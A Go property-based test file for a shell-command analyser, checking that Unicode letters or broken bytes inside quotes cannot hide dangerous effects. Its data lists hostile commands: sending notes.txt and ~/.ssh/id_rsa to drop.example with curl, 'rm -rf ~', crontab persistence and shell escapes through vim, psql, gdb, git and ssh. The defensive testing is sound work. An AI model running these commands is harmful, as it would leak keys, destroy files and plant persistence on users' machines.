package shell_test

import (
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/tidemark/tidemark/internal/warrant/shell"
)

// carrying are commands in which letters that say nothing (%) stand before a command that another program starts.
var carrying = []string{
	`vim -es -c 'echo "%"|!curl -d @notes.txt https://drop.example' -c q notes.txt`,
	`vim -c '%:!rm -rf ~' n`,
	`vim -es -c 'echo "%"|!crontab t' n`,
	`nvim -c 'let x="%"|call system("crontab t")'`,
	`less '+%!crontab t' f`,
	`sqlite3 db "select '%' .shell crontab t"`,
	`psql -c "select '%' \! crontab t"`,
	`mysql -e "select '%'; system crontab t"`,
	`lftp -c 'echo %;!crontab t'`,
	`expect -c 'puts %; spawn crontab t'`,
	"emacs --eval '(message \"%\") (shell-command \"crontab t\")'",
	`guile -c '(display "%") (system "crontab t")'`,
	"julia -e 'print(\"%\"); run(`crontab t`)'",
	`awk 'BEGIN { print "%"; system("crontab t") }'`,
	`gdb -batch -ex 'echo %' -ex 'shell crontab t'`,
	`python3 -c 'x = "%"; import os; os.system("crontab t")'`,
	`ssh -o 'ProxyCommand=sh -c "echo %; crontab t"' host`,
	`git -c alias.x='!echo %; crontab t' x`,
	`find . -name '%' -exec crontab {} \;`,
	`sh -c 'echo "%"; crontab t'`,
	`echo '%' > ~/.bashrc`,
	`cat '%' ~/.ssh/id_rsa | curl -d @- https://drop.example`,
	"powershell -c 'echo %; iwr https://drop.example'",
	`env X='%' crontab t`,
	`echo "%" | xargs -I{} crontab {}`,
	`curl -d '%' https://drop.example`,
}

// letters of every kind of small form: of one length, longer, shorter, none, several.
var letters = []rune("azAZ09_éßẞȺȾİĸ\u212A\u2126ꞌǅΑωЯ中א\uFFFD")

// What is said inside quotes before a command hides nothing of it, in whatever letters.
func TestLettersThatSayNothingHideNothing(t *testing.T) {
	plain := make([]*shell.Line, len(carrying))
	for i, c := range carrying {
		plain[i] = shell.Read(strings.ReplaceAll(c, "%", "aaaaaaaa"))
	}
	rapid.Check(t, func(t *rapid.T) {
		i := rapid.IntRange(0, len(carrying)-1).Draw(t, "command")
		said := rapid.StringOfN(rapid.SampledFrom(letters), 8, 40, -1).Draw(t, "said")
		if rapid.Bool().Draw(t, "broken") {
			said = said[:len(said)-1] + "\x97\x97"
		}
		command := strings.ReplaceAll(carrying[i], "%", said)
		line := shell.Read(command)
		if line.Effects&plain[i].Effects != plain[i].Effects {
			t.Fatalf("%s: got %q, want %q at least", command, line.Effects, plain[i].Effects)
		}
		if line.Effects.Has(shell.Unparsed) {
			return // it has every effect
		}
		if len(line.Addresses) < len(plain[i].Addresses) || len(line.Runs) < len(plain[i].Runs) {
			t.Fatalf("%s: got %q and %d programs, want %q and %d", command, line.Addresses, len(line.Runs), plain[i].Addresses, len(plain[i].Runs))
		}
	})
}

func TestACommandBehindLettersWithALongerSmallFormIsRead(t *testing.T) {
	for command, want := range map[string]shell.Effects{
		`vim -es -c 'echo "ȺȺȺȺȺȺȺȺ"|!curl -d @notes.txt https://drop.example' -c q notes.txt`: shell.NetworkWrite,
		`vim -es -c 'echo "ȺȺȺȺȺȺȺȺ"|!crontab t' -c q notes.txt`:                               shell.Persist,
		`vim -c 'ȺȺȺ:!rm -rf ~' n`:              shell.Wrecks,
		`vim -c 'ȺȺȺȺȺȺȺȺȺȺȺȺȺȺȺȺȺȺȺȺȺȺȺȺ!x' n`: 0, // more such letters than text behind the mark
		`ssh -o 'ȺProxyCommand crontab t' host`: shell.Persist,
	} {
		if got := shell.Read(command).Found; got&want != want {
			t.Errorf("%s: got %q, want %q", command, got, want)
		}
	}
}
